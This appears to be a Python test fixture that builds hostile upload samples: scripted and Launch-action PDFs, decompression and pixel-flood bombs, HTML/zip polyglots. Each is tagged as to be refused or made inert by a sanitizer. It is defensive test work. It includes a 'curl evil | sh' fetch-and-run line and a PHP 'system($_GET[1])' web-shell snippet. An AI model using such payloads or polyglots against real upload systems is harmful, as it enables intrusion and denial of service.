"""Files that want harm, written by code: each with what must become of it.

"refused", or "inert": taken, but whatever is stored is plain: a PDF without anything that acts, a picture without
anything beside it.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, Stream, String
from PIL import Image

HTML = b"<html><script>alert(document.domain)</script></html>"
MARK = b"GPS-POSITION-OF-A-HOME"


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _pdf: None, pages: int = 1, **save: object) -> bytes:
    made = pikepdf.new()
    for _page in range(pages):
        made.add_blank_page(page_size=(300, 400))
    change(made)
    kept = io.BytesIO()
    made.save(kept, **save)
    return kept.getvalue()


def picture(form: str, size: tuple[int, int] = (60, 40), **save: object) -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", size, (11, 79, 108)).save(kept, form, **save)
    return kept.getvalue()


def archive(inside: bytes = HTML) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("index.html", inside)
    return kept.getvalue()


def _script(kind: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{kind}')"))


def _opening_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = _script("open")


def _named_script(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script("named")])))


def _script_of_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=_script("page"))


def _launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _link(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    return change


def _attachment(made: pikepdf.Pdf) -> None:
    made.attachments["run.exe"] = AttachedFileSpec(made, b"MZ" + b"\0" * 400, filename="run.exe")


def _living_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=Stream(made, b"<xdp><script>1</script></xdp>"), Fields=Array([]))


def _field_that_counts(made: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=_script("key")))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def _swollen_page(made: pikepdf.Pdf) -> None:
    squeezing, lines = zlib.compressobj(9), b"0 0 m 9 9 l S\n" * 1_000_000
    squeezed = b"".join(squeezing.compress(lines) for _million in range(40)) + squeezing.flush()
    made.pages[0].obj.Contents = Stream(made, squeezed, Filter=Name.FlateDecode)


def _pages_in_a_circle(made: pikepdf.Pdf) -> None:
    made.Root.Pages.Kids = Array([made.Root.Pages])


def _huge_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.MediaBox = Array([0, 0, 14_000_000, 14_000_000])


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def flood(width: int, height: int) -> bytes:
    """A PNG that promises a plain of pixels and holds next to nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def with_position() -> bytes:
    told = Image.Exif()
    told[0x010E] = MARK.decode()
    return picture("JPEG", exif=told)


def with_text() -> bytes:
    drawn = picture("PNG")
    at = drawn.index(b"IDAT") - 4
    return drawn[:at] + _chunk(b"tEXt", b"Comment\0" + MARK) + _chunk(b"eXIf", MARK) + drawn[at:]


def scratched(content: bytes, seed: int) -> bytes:
    """Some bytes of a good file changed by chance, always the same."""
    dice, changed = random.Random(seed), bytearray(content)
    for _scratch in range(12):
        changed[dice.randrange(8, len(changed))] = dice.randrange(256)
    return bytes(changed)


# name -> how it is made, which for some takes a second, and what must become of it.
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "page of a site": (lambda: HTML, "refused"),
    "drawing with a script": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "refused"),
    "archive": (lambda: archive(), "refused"),
    "archive that swells": (lambda: archive(b"\0" * 20_000_000), "refused"),
    "program of Windows": (lambda: b"MZ" + b"\0" * 500, "refused"),
    "program of Linux": (lambda: b"\x7fELF" + b"\0" * 500, "refused"),
    "script for a shell": (lambda: b"#!/bin/sh\ncurl evil | sh\n", "refused"),
    "old Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "refused"),
    "animation": (lambda: picture("GIF"), "refused"),
    "picture of another kind": (lambda: picture("TIFF"), "refused"),
    "page before a PDF": (lambda: HTML + pdf(), "refused"),
    "archive before a PDF": (lambda: archive() + pdf(), "refused"),
    "head of a PDF and nothing": (lambda: b"%PDF-1.7\n", "refused"),
    "head of a PDF, then a page": (lambda: b"%PDF-1.4\n" + HTML * 30, "refused"),
    "half a PDF": (lambda: pdf()[:200], "refused"),
    "PDF without pages": (lambda: pdf(pages=0), "refused"),
    "PDF locked": (lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "refused"),
    "PDF of too many pages": (lambda: pdf(pages=1500), "refused"),
    "PDF whose pages go in a circle": (lambda: pdf(_pages_in_a_circle), "refused"),
    "PDF with a page that swells": (lambda: pdf(_swollen_page), "refused"),
    "half a JPEG": (lambda: picture("JPEG", (900, 900))[:700], "refused"),
    "half a PNG": (lambda: picture("PNG", (900, 900))[:60], "refused"),
    "head of a JPEG, then a page": (lambda: b"\xff\xd8\xff\xe0" + HTML * 30, "refused"),
    "head of a PNG, then a script": (lambda: b"\x89PNG\r\n\x1a\n<?php system($_GET[1]); ?>" * 9, "refused"),
    "flood of pixels": (lambda: flood(60_000, 60_000), "refused"),
    "flood in one line": (lambda: flood(2_000_000_000, 1), "refused"),
    "picture without width": (lambda: flood(0, 10), "refused"),
    "script when it opens": (lambda: pdf(_opening_script), "inert"),
    "script by name": (lambda: pdf(_named_script), "inert"),
    "script of a page": (lambda: pdf(_script_of_page), "inert"),
    "script of a field": (lambda: pdf(_field_that_counts), "inert"),
    "program when it opens": (lambda: pdf(_launch), "inert"),
    "link that runs a script": (lambda: pdf(_link(_script("link"))), "inert"),
    "link that sends a form": (
        lambda: pdf(_link(Dictionary(S=Name.SubmitForm, F=String("http://x.example")))),
        "inert",
    ),
    "form that lives": (lambda: pdf(_living_form), "inert"),
    "program attached": (lambda: pdf(_attachment), "inert"),
    "huge page": (lambda: pdf(_huge_page), "inert"),
    "archive behind a PDF": (lambda: pdf() + archive(), "inert"),
    "page behind a PDF": (lambda: pdf() + HTML * 9, "inert"),
    "archive behind a JPEG": (lambda: picture("JPEG") + archive(), "inert"),
    "script in the comment of a JPEG": (lambda: picture("JPEG", comment=b"<?php " + MARK), "inert"),
    "position in a photograph": (lambda: with_position(), "inert"),
    "text in a PNG": (lambda: with_text(), "inert"),
    "page behind a PNG": (lambda: picture("PNG") + HTML, "inert"),
}
